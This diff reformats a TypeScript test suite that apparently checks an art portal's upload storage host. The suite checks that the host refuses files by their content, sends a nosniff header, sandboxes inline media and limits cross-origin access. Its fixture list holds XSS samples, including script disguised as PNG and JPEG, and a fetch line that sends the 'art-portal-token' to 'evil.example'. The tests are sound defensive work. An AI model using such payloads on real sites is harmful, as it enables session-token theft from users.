@@ -22,22 +22,37 @@ beforeAll(async () => {
 afterAll(() => server?.close());
 
 const hostile = [
-  { name: 'x.html', type: 'text/html', text: '<!doctype html><script>alert(localStorage.getItem("art-portal-token"))</script>' },
-  { name: 'x.svg', type: 'image/svg+xml', text: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' },
-  { name: 'x.js', type: 'application/javascript', text: 'fetch("//evil.example/?t="+localStorage.getItem("art-portal-token"))' },
+  {
+    name: 'x.html',
+    type: 'text/html',
+    text: '<!doctype html><script>alert(localStorage.getItem("art-portal-token"))</script>',
+  },
+  {
+    name: 'x.svg',
+    type: 'image/svg+xml',
+    text: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+  },
+  {
+    name: 'x.js',
+    type: 'application/javascript',
+    text: 'fetch("//evil.example/?t="+localStorage.getItem("art-portal-token"))',
+  },
   { name: 'x.png', type: 'image/png', text: '<html><script>alert(1)</script></html>' },
   { name: 'x.jpg', type: 'image/jpeg', text: '\u00ff\u00d8<script>alert(1)</script>' },
   { name: 'x.txt', type: 'text/plain', text: '' },
 ];
 
 describe('what the storage host accepts', () => {
-  it.each(hostile)('refuses $name ($type) by its content, and stores nothing', async ({ name, type, text }) => {
-    const key = `${sign.dir}${name}`;
-    const answer = await postFile(sign, key, Buffer.from(text, 'latin1'), { type });
-    expect(answer.status).toBe(415);
-    expect(JSON.parse(answer.body)).toEqual({ code: 415, msg: refusedType });
-    expect((await fetch(`${sign.host}/${key}`)).status).toBe(404);
-  });
+  it.each(hostile)(
+    'refuses $name ($type) by its content, and stores nothing',
+    async ({ name, type, text }) => {
+      const key = `${sign.dir}${name}`;
+      const answer = await postFile(sign, key, Buffer.from(text, 'latin1'), { type });
+      expect(answer.status).toBe(415);
+      expect(JSON.parse(answer.body)).toEqual({ code: 415, msg: refusedType });
+      expect((await fetch(`${sign.host}/${key}`)).status).toBe(404);
+    },
+  );
 
   it('stores JPG, PNG, WebP, GIF, MP4 and PDF whatever their name, and serves each as its content', async () => {
     for (const file of await acceptedFiles()) {
@@ -55,7 +70,9 @@ describe('how stored files are served', () => {
   it('sends pictures and videos inline in a sandbox, and anything else as a download', async () => {
     const headersOf = async (url: string) => (await fetch(url)).headers;
     for (const file of await acceptedFiles()) {
-      const url = await api.upload.uploadFile(new Blob([new Uint8Array(file.bytes)], { type: file.type }), { fileName: `a.${file.extension}` });
+      const url = await api.upload.uploadFile(new Blob([new Uint8Array(file.bytes)], { type: file.type }), {
+        fileName: `a.${file.extension}`,
+      });
       const headers = await headersOf(url);
       expect(headers.get('x-content-type-options')).toBe('nosniff');
       if (file.type.startsWith('image/')) {
@@ -128,7 +145,14 @@ describe('storage and other origins', () => {
 
   it('lets only the portal preflight and read an upload, without credentials', async () => {
     const preflight = (origin: string) =>
-      fetch(`${server.origin}/storage`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' } });
+      fetch(`${server.origin}/storage`, {
+        method: 'OPTIONS',
+        headers: {
+          origin,
+          'access-control-request-method': 'POST',
+          'access-control-request-headers': 'content-type',
+        },
+      });
     const allowed = await preflight(server.origin);
     expect(allowed.status).toBe(204);
     expect(allowed.headers.get('access-control-allow-origin')).toBe(server.origin);
@@ -139,9 +163,13 @@ describe('storage and other origins', () => {
 
     const [png] = (await acceptedFiles()).filter((file) => file.type === 'image/png');
     if (!png) throw new Error('no png');
-    const fromEvil = await postFile(sign, `${sign.dir}cors.png`, png.bytes, { headers: { origin: 'https://evil.example' } });
+    const fromEvil = await postFile(sign, `${sign.dir}cors.png`, png.bytes, {
+      headers: { origin: 'https://evil.example' },
+    });
     expect(fromEvil.headers.get('access-control-allow-origin')).toBeNull();
-    const fromPortal = await postFile(sign, `${sign.dir}cors2.png`, png.bytes, { headers: { origin: server.origin } });
+    const fromPortal = await postFile(sign, `${sign.dir}cors2.png`, png.bytes, {
+      headers: { origin: server.origin },
+    });
     expect(fromPortal.headers.get('access-control-allow-origin')).toBe(server.origin);
     expect(fromPortal.headers.get('access-control-allow-credentials')).toBeNull();
   });
